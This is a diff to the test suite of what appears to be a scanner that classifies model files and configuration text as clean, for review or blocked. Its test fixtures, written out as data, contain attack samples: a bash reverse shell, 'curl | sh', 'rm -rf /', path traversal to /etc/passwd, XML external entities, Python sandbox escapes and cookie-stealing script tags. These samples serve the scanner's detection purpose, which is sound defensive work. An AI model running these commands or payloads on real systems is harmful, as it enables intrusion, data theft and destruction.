@@ -221,6 +221,24 @@ describe("protocol buffers and ONNX", () => {
     expect((await judged("other.pb", Uint8Array.from(graph))).verdict).toBe(verdict);
   });
 
+  it("MF8: values that ONNX keeps beside a model are clean, and no place for what leads out", async () => {
+    // dims 2, of floats, named x, eight bytes
+    const tensor = [0x08, 2, 0x10, 1, 0x42, 1, 0x78, 0x4a, 8, ...new Uint8Array(8)];
+    const said = async (bytes: readonly number[]) => (await judged("input_0.pb", Uint8Array.from(bytes))).verdict;
+    expect(await said(tensor)).toBe("clean");
+    expect(await said([0x0a, 1, 0x73, 0x10, 1, 0x1a, tensor.length, ...tensor])).toBe("clean");
+    const external = (place: string): readonly number[] => {
+      const entry = [0x0a, 8, ...Buffer.from("location"), 0x12, place.length, ...Buffer.from(place)];
+      return [0x10, 1, 0x6a, entry.length, ...entry, 0x70, 1];
+    };
+    expect(await said(external("weights"))).toBe("clean");
+    expect(await said(external("../../etc/passwd"))).toBe("blocked");
+    // No type, a field of another message, and cut.
+    expect(await said([0x08, 2, 0x42, 1, 0x78])).toBe("review");
+    expect(await said([...tensor, 0xfa, 1, 1, 0])).toBe("review");
+    expect(await said(tensor.slice(0, -1))).toBe("review");
+  });
+
   it("MF9: layers that Keras keeps beside a saved model are judged", async () => {
     const layer = JSON.stringify({ class_name: "Lambda", config: { function: ["4wEA", null, null] } });
     const bytes = Uint8Array.from(field(1, [...field(3, "root.layer"), ...field(4, layer)]));
@@ -244,6 +262,9 @@ describe("XML", () => {
       "blocked",
     ],
     ["m.xml", `<!DOCTYPE net SYSTEM "http://a.example/x.dtd">${net}`, "blocked"],
+    ["m.xml", `<!DOCTYPE net SYSTEM "../x.dtd">${net}`, "blocked"],
+    ["m.xml", `<!DOCTYPE net SYSTEM "net.dtd">${net}`, "review"],
+    ["m.xml", `<!DOCTYPE net SYSTEM "net.dtd" [<!ENTITY x SYSTEM "net.txt">]>${net}`, "blocked"],
     ["m.xml", `<!DOCTYPE net [<!ENTITY % p PUBLIC "a" "http://a.example/x"> %p;]>${net}`, "blocked"],
     ["m.xml", `<!DOCTYPE net [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>${net}`, "review"],
     ["m.xml", net.replace("opset1", "extension"), "review"],
@@ -268,13 +289,20 @@ describe("skops and configurations", () => {
   it.each([
     ["sklearn.linear_model", "LogisticRegression", "clean"],
     ["numpy", "ndarray", "clean"],
-    ["__main__", "Mine", "review"],
+    ["__main__", "Mine", "clean"],
+    ["__main__", "mine", "review"],
+    ["__main__", "Mine.method", "review"],
     ["acme", "Model", "review"],
     ["os", "system", "blocked"],
     ["builtins", "eval", "blocked"],
     ["builtins", "breakpoint", "blocked"],
   ])("MF11: %s.%s is %s", async (module, name, verdict) => {
     expect((await schema(module, name)).verdict).toBe(verdict);
+  });
+
+  it("MF11: a class of the loading program is for review where it is called", async () => {
+    expect((await schema("__main__", "Mine", { __loader__: "ReduceNode" })).verdict).toBe("review");
+    expect((await schema("__main__", "Mine", { __loader__: "FunctionNode" })).verdict).toBe("review");
   });
 
   it("MF11: functions and parts outside of the archive are seen", async () => {
@@ -301,6 +329,8 @@ describe("skops and configurations", () => {
     ["tokenizer_config.json", { chat_template: "{{ messages[0].role }}" }, "clean"],
     ["other.json", { deep: [{ text: "{{ ''.__class__.__mro__ }}" }] }, "blocked"],
     ["other.json", { text: "braces {{ that are no template" }, "clean"],
+    ["other.json", { scripts: { clean: "rm -rf dist" } }, "blocked"],
+    ["package.json", { scripts: { clean: "rm -rf dist" } }, "clean"],
     ["adapter_config.json", { base_model_name_or_path: "acme/base", peft_type: "LORA", r: 8 }, "clean"],
     ["config.json", { architectures: ["LlamaForCausalLM"], torch_dtype: "float16" }, "clean"],
   ])("MF12: %s with %j is %s", async (path, content, verdict) => {
@@ -312,7 +342,7 @@ describe("skops and configurations", () => {
     const [found] = (await judged("config.json", config, { "modeling_x.py": "print()" })).reasons;
     expect(found?.says).toBe("Loading it with remote code allowed runs modeling_x.X in modeling_x.py beside it.");
     expect((await judged("modeling_x.py", "print()", { "config.json": config })).rules).toEqual(["remote-code"]);
-    expect((await judged("other.py", "print()", { "config.json": config })).verdict).toBe("clean");
+    expect((await judged("other.py", "print()", { "config.json": config })).verdict).toBe("review");
   });
 });
 
@@ -324,11 +354,16 @@ describe("texts, paths, JSON", () => {
     ["a", "subprocess.run(['id'])"],
     ["a", "pickle.loads(data)"],
     ["a", "().__class__.__base__.__subclasses__()"],
+    ["a", "x.__class__.__mro__[1]"],
+    ["a", "f.__globals__['os']"],
+    ["a", "f.__init__.__globals__"],
     ["a", "curl https://a.example/x.sh | sh"],
     ["a", "rm -rf / --no-preserve-root"],
     ["a", "chmod +x run"],
     ["a", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
     ["a", "<script>alert(1)</script>"],
+    ["a", "<script>x=document.cookie</script>"],
+    ["a", '<script async src="//example.com/x.js"></script>'],
     ["a", "<img src=x onerror=alert(1)>"],
     ["a", base64],
     ["a", "\\x6f\\x73\\x2e\\x73\\x79\\x73\\x74\\x65\\x6d\\x28\\x27\\x69\\x64\\x27\\x29"],
@@ -347,6 +382,9 @@ describe("texts, paths, JSON", () => {
     ["hash", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"],
     ["note", "We curl the weights into a tensor; remove rows with rm in the name."],
     ["example", "prompt: evaluate the essay (execution time 3 s)"],
+    ["note", "Classes are called by self.__class__.__name__, or x.__class__ (see __init__)."],
+    ["token", "<script>"],
+    ["description", "What stands between `<script>` and `</script>` (or `<style>`) is left out: a=b."],
   ])("MF13: %s: %s is clean", (key, text) => {
     expect(judgeText(key, text)).toEqual([]);
   });
